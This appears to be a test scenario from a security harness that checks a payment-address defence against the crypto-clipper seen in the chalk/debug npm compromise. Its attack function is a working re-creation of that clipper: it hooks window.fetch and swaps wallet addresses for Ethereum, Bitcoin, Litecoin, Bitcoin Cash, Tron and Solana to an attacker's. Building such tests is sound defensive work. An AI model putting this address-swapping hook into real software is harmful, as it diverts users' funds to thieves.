// A03: the payload's own pattern set replaces the address of every chain family in a response.
import { names } from './logs.mjs';

const families = (a) => [
  a.btc.p2pkh,
  a.btc.p2sh,
  a.btc.segwit,
  a.btc.taproot,
  a.ltc.segwit,
  a.bch.cashaddr,
  a.tron.address,
  a.sol.address,
  { GOOD: a.GOOD, EVIL: a.EVIL },
];

export default {
  id: 'A03',
  title: 'every chain family replaced in a response',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    // One pattern for each family of the payload, with the attacker's address in its place.
    const rules = [
      [/\b0x[a-fA-F0-9]{40}\b/g, a.EVIL],
      [/\bbc1p[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71}\b/g, a.btc.taproot.EVIL],
      [/\bbc1q[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71}\b/g, a.btc.segwit.EVIL],
      [/\bltc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71}\b/g, a.ltc.segwit.EVIL],
      [/bitcoincash:[qp][a-zA-Z0-9]{41}/g, a.bch.cashaddr.EVIL],
      [/(?<!\w)T[1-9A-HJ-NP-Za-km-z]{33}(?!\w)/g, a.tron.address.EVIL],
      [/\b1[a-km-zA-HJ-NP-Z1-9]{25,33}\b/g, a.btc.p2pkh.EVIL],
      [/\b3[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, a.btc.p2sh.EVIL],
      [
        /(?<![\w:])[4-9A-HJ-NP-Za-km-z][1-9A-HJ-NP-Za-km-z]{32,43}(?!\w)/g,
        (found) => (/^(bc1|ltc1|T.{33}$)/.test(found) ? found : a.sol.address.EVIL),
      ],
    ];
    const before = fetch;
    window.fetch = async (...args) => {
      const response = await before(...args);
      let text = await response.text();
      for (const [pattern, address] of rules) text = text.replace(pattern, address);
      return new Response(text, { status: response.status, headers: response.headers });
    };
  },

  async action(a, app) {
    return app.fetchDepositAddress();
  },

  stolen: ({ result, a }) => families(a).every(({ GOOD, EVIL }) => names(result, EVIL) && !names(result, GOOD)),
  arrived: ({ result, a }) => families(a).every(({ GOOD, EVIL }) => names(result, GOOD) && !names(result, EVIL)),
  violation: { surface: 'fetch', grade: 'tamper' },
};
